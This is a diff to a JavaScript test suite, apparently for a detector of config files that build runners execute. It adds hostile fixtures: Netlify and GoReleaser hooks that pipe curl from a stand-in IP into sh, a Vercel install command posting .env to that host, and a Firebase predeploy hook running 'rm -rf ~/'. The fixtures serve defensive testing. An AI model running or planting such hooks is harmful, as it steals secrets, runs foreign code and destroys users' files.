@@ -442,6 +442,26 @@ describe('more files a runner reads as commands, code or sources (round 14)', ()
       'repositories {\n    maven("https://repo.mirror.example/releases")\n    mavenCentral()\n}\n',
     ],
     [
+      'a Netlify build command that fetches and runs (review 21 H4)',
+      'netlify.toml',
+      '[build]\n  command = "curl -s https://203.0.113.7/x | sh && npm run build"\n  publish = "dist"\n',
+    ],
+    [
+      'a Vercel install command that sends a secret',
+      'vercel.json',
+      '{"installCommand": "curl -d @.env https://203.0.113.7/ && npm ci"}',
+    ],
+    [
+      'a Firebase predeploy hook that deletes home',
+      'firebase.json',
+      '{"hosting": {"public": "dist", "predeploy": ["rm -rf ~/"]}}',
+    ],
+    [
+      'a GoReleaser hook that fetches and runs',
+      '.goreleaser.yaml',
+      'before:\n  hooks:\n    - go mod tidy\n    - sh -c "curl -s https://203.0.113.7/x | sh"\n',
+    ],
+    [
       'a Gradle dependency taken from a URL (round 16)',
       'build.gradle.kts',
       'dependencies {\n    implementation(files("https://quay-mirror.example/okhttp-patched.jar"))\n}\n',
@@ -479,6 +499,8 @@ describe('more files a runner reads as commands, code or sources (round 14)', ()
       'build.gradle.kts',
       'plugins { kotlin("jvm") version "1.9.0" }\nrepositories { mavenCentral() }\n',
     ],
+    ['a Netlify site folder', 'netlify.toml', '[build]\n  publish = "dist"\n'],
+    ['a Vercel rewrite', 'vercel.json', '{"rewrites": [{"source": "/(.*)", "destination": "/"}]}'],
     [
       'Google and Maven Central by URL',
       'build.gradle.kts',
